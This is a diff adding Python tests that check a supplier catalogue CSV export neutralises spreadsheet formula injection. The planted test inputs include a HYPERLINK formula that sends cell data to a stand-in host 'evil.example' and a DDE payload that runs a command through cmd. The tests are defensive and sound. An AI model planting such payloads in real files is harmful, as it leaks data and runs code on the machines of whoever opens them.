@@ -9,6 +9,8 @@ seeing only its own."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, timedelta
 from decimal import Decimal
 
@@ -415,3 +417,31 @@ def _award_ready(d, veg, farms):  # type: ignore[no-untyped-def]
     for user, phrase in _openers(sp).items():
         sp = tendering.approve_opening(sp, user, phrase, at=now())
     return sp
+
+
+def test_a_supplier_cannot_plant_a_spreadsheet_formula_in_the_catalogue_export(food):
+    city, d, veg, farms, people, school = food
+    planted = ['=HYPERLINK("http://evil.example/?"&A1;"Click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1:A9)"]  # (names are stripped: tabs are tested below)
+    c = client_for(people["farmer0"])
+    for n, product in enumerate(planted):
+        c.post(url(city, f"supplier/{farms[0].pk}/catalogue/"), {
+            "product": product, "food_group": "roots", "price": "1,20",
+            "production_country": "SI", "intermediaries": "0", "delivery_days": ["1"],
+            "production_place": f"={n}+{n}"})
+    assert CatalogueItem.objects.filter(operator=farms[0]).count() == len(planted)
+    table = client_for(people["opener-a"]).get(url(city, "manage/catalogue.csv"))
+    rows = list(csv.DictReader(io.StringIO(table.content.decode())))
+    products = {r["product"] for r in rows}
+    assert products == {"'" + p for p in planted}
+    assert all(r["production_place"].startswith("'=") for r in rows)
+    # a cell a spreadsheet would read as a formula is never written as one
+    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
+
+
+def test_negative_figures_stay_numbers_and_only_formula_text_is_neutralised():
+    from zerocity.core.spreadsheet import safe_cell
+
+    assert [safe_cell(v) for v in ["-12.5", "+3", "-1e-05", -4, "=1+1", "-x", "@a", "plain",
+                                   "\t1", ""]] == [
+        "-12.5", "+3", "-1e-05", -4, "'=1+1", "'-x", "'@a", "plain", "'\t1", ""]
